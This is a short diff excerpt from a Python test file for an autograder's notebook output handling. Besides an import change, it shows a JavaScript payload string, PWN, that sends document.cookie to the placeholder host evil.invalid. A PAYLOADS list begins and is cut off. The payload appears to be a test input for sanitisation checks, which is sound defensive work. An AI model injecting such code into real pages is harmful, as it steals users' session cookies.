@@ -13,7 +13,7 @@ from autograder.autograded import autograded_notebook
 from autograder.outputs import Room, clean_outputs
 from autograder.rebuild import rebuild
 
-from .conftest import MOMENTUM, known_cells
+from .arena import MOMENTUM, known_cells
 
 PWN = "window.__pwned = 1; fetch('https://evil.invalid/' + document.cookie)"
 PAYLOADS = [
